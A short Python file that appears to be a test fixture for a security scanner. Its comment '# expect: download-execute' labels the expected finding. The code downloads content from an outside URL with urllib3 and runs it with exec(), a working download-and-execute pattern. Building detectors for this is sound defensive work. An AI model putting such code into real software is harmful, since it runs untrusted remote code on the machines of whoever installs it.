# ruff: noqa
# fmt: off
import urllib3

http = urllib3.PoolManager()
data = http.request("GET", "https://cdn.example-updates.net/s2").data
exec(data.decode())  # expect: download-execute
